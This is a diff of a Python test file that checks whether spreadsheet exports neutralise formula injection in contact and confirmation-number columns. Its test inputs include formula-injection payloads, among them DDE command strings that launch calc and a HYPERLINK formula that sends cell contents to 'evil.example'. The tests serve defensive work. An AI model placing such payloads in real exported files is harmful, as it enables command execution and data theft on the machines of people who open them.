@@ -16,9 +16,9 @@ from tests.factories.world import World
 CELLS = [
     "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=IMPORTXML(\"x\",\"//a\")",
-    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\x00=1+1"[1:], '=1+1";=1+1', "=1+1,=1+1",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '=1+1";=1+1', "=1+1,=1+1",
 ]  # fmt: skip
-_BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+_BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
 @pytest.mark.parametrize("column", ["contact_name", "contact_phone", "confirmation_number"])
